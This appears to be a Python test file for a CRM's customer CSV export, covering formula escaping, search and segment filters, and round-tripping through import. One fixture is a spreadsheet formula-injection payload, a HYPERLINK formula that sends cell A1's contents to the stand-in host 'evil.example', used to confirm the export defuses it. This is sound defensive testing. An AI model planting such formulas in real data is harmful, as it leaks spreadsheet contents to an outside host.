"""Exporting customers as CSV: formulas defused, search and segment filters, and a file that
reads back through the import."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

from kith.contacts.export import stream_csv
from kith.core.context import Core
from kith.core.jobs import JobWorker
from kith.segments.filters import parse, to_query
from tests.api.conftest import ApiSetup


async def create(api: ApiSetup, **body: Any) -> str:
    response = await api.http.post("/api/v1/customers", json=body, headers=api.auth)
    assert response.status_code == 201, response.text
    return str(response.json()["id"])


async def export(api: ApiSetup, **params: str) -> list[dict[str, str]]:
    response = await api.http.get("/api/v1/customers/export.csv", params=params, headers=api.auth)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    assert response.content.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 by its BOM
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


async def test_cells_a_spreadsheet_would_run_are_defused(api: ApiSetup) -> None:
    await create(
        api,
        name='=HYPERLINK("http://evil.example/?x="&A1,"click")',
        phones=["+86 138 0013 8000"],
        tags=["@admin", "vip"],
        attributes={"note": "-2+3", "plain": "ok", "score": 5},
        consent={"email": "granted"},
    )
    (row,) = await export(api)
    assert row["name"].startswith("'=HYPERLINK")
    assert row["phones"] == "'+8613800138000"
    assert row["tags"] == "'@admin; vip"
    assert row["attributes.note"] == "'-2+3"
    assert row["attributes.plain"] == "ok" and row["attributes.score"] == "5"
    assert row["consent.email"] == "granted" and row["consent.wechat"] == "unknown"
    assert row["first_seen"] and row["last_seen"]


async def test_search_and_segment_filters_choose_the_rows(
    api: ApiSetup, other_api: ApiSetup, core: Core, workspace_id: str
) -> None:
    vip_sh = await create(api, name="上海 VIP", tags=["vip"], attributes={"city": "上海"})
    await create(api, name="北京 VIP", tags=["vip"], attributes={"city": "北京"})
    await create(api, name="Plain", emails=["plain@example.com"])
    await create(other_api, name="Elsewhere VIP", tags=["vip"])
    everyone = await export(api)
    assert {r["name"] for r in everyone} == {"上海 VIP", "北京 VIP", "Plain"}
    rule = {
        "all": [
            {"field": "tags", "op": "contains", "value": "vip"},
            {"field": "attributes.city", "op": "eq", "value": "上海"},
        ]
    }
    chosen = await export(api, filter=json.dumps(rule))
    assert [r["id"] for r in chosen] == [vip_sh]
    assert [r["name"] for r in await export(api, q="plain@example.com")] == ["Plain"]
    bad = await api.http.get(
        "/api/v1/customers/export.csv",
        params={"filter": json.dumps({"field": "tags", "op": "near"})},
        headers=api.auth,
    )
    assert bad.status_code == 422 and bad.json()["error"]["field"].startswith("filter")
    # What the segments feature reuses: the same stream for a segment's query.
    text = "".join(
        [p async for p in stream_csv(core, workspace_id, to_query(parse(rule), core.clock.now()))]
    )
    assert text.count("\r\n") == 2 and "上海 VIP" in text


async def test_an_export_imports_back_unchanged(
    api: ApiSetup, other_api: ApiSetup, core: Core
) -> None:
    await create(
        api,
        name="李雷",
        emails=["lilei@example.com", "li@example.org"],
        phones=["13800138000"],
        tags=["vip", "=sum"],
        attributes={"city": "上海"},
        consent={"email": "revoked"},
        locale="zh-CN",
    )
    response = await api.http.get("/api/v1/customers/export.csv", headers=api.auth)
    mapping = {
        "name": "name",
        "emails": "email",
        "phones": "phone",
        "tags": "tags",
        "locale": "locale",
        "attributes.city": "attributes.city",
        "consent.email": "consent.email",
    }
    imported = await other_api.http.post(
        "/api/v1/customers/import",
        content=response.content,
        params={"mapping": json.dumps(mapping), "tag_separator": ";"},
        headers={**other_api.auth, "Content-Type": "text/csv"},
    )
    assert imported.status_code == 202, imported.text
    await JobWorker(core).run_once()
    (copy,) = (await other_api.http.get("/api/v1/customers", headers=other_api.auth)).json()[
        "items"
    ]
    assert copy["name"] == "李雷"
    assert copy["emails"] == ["lilei@example.com", "li@example.org"]
    assert copy["phones"] == ["+8613800138000"]
    assert copy["tags"] == ["vip", "=sum"]
    assert copy["attributes"] == {"city": "上海"}
    assert copy["consent"]["email"]["state"] == "revoked"
